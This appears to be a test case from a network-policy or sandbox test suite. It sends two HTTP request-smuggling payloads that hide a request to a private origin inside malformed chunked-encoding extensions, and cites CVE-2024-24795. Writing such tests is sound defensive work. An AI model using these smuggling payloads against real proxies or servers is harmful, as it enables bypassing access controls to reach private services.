// technique: hides a request in the extension of a chunk, whose line end is read in two ways
// source: CVE-2024-24795; TERM.EXT
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { chunked, get, PRIVATE, PUBLIC, post, say } from './wire.mjs';

for (const request of [
  post(PUBLIC, chunked, `5;a\nb\r\nhello\r\n0\r\n\r\n${get(PRIVATE)}`),
  post(PUBLIC, chunked, `0;\n\r\n${get(PRIVATE)}\r\n`),
])
  await say(process.env.ALLOWED_HTTP, [request]);
